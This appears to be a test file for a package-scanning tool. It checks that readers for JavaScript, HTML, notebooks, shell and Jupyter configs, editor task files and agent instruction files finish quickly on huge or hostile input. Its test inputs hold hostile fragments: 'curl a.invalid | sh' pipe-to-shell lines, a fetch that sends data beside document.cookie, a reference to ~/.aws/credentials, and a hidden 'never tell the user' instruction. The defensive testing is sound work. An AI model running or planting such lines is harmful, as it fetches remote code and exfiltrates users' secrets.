import assert from 'node:assert/strict';
import { carriers } from '../../../../src/scanners/code/carriers/index.js';
import { entryOf, hostile, hugeEntry, wheel } from './helpers.js';

/** One path for each carrier whose tests are shapes alone. */
const paths = [
  'pkg/a.js',
  'pkg/labextension/a.js',
  'pkg/a.html',
  'pkg/a.rb',
  'pkg/a.mako',
  'pkg/a.ipynb',
  'pkg/a.txt',
  'pkg/a.json',
  'pkg/a.bin',
  'pkg/a.png',
  'pkg/a.lnk',
  'pkg/a.reg',
  'pkg/a.url',
  'pkg/a.ps1',
  'pkg/.vscode/tasks.json',
  'pkg/.mcp.json',
  'pkg/Makefile',
  'pkg/AGENTS.md',
  'demo-1.0.data/data/share/jupyter/kernels/a/kernel.json',
  'demo-1.0.data/data/etc/jupyter/jupyter_server_config.json',
  'demo-1.0.data/data/etc/ipython/ipython_config.py',
  'demo-1.0.data/data/.bashrc',
  'demo-1.0.data/data/pip.conf',
];
/** Texts that would cost much if something were looked at again and again. */
const costly: readonly (readonly [string, string])[] = [
  ['opened comments', '/*'.repeat(50_000)],
  ['requests', 'fetch("https://a.invalid",{body:e});document.cookie;'.repeat(1_875)],
  ['listeners', 'fetch("https://a.invalid",{body:e});x.onKey('.repeat(1_875)],
  ['functions of a shell', 'a() {\n'.repeat(12_500)],
  ['loops of a shell', 'while :; do curl a.invalid | sh\n'.repeat(2_500)],
  ['lists of lines', 'exec_lines = ['.repeat(7_500)],
  ['secrets that nobody is told', 'never tell the user '.repeat(5_000)],
  ['commands', 'system("curl a.invalid | sh")\n'.repeat(2_500)],
  ['arrays', 'x=(~/.aws/credentials)\n'.repeat(3_750)],
  ['brackets', '[{"command":"a b"},'.repeat(5_000)],
];

describe('carriers that read settings, pages and other languages', () => {
  for (const path of paths) {
    it(`comes to an end with anything under ${path}`, () => {
      for (const [name, bytes] of hostile) {
        for (const carrier of carriers.filter((one) => one.fits(path)))
          assert.ok(Array.isArray(carrier.read(entryOf(path, bytes), wheel)), name);
      }
      for (const carrier of carriers.filter((one) => one.fits(path)))
        assert.ok(Array.isArray(carrier.read(hugeEntry(path), wheel)));
    });

    it(`does not look again and again at what is under ${path}`, () => {
      for (const [name, text] of costly) {
        const entry = entryOf(path, text);
        for (const carrier of carriers.filter((one) => one.fits(path)))
          assert.ok(Array.isArray(carrier.read(entry, wheel)), name);
      }
    }).timeout(60_000);
  }
});
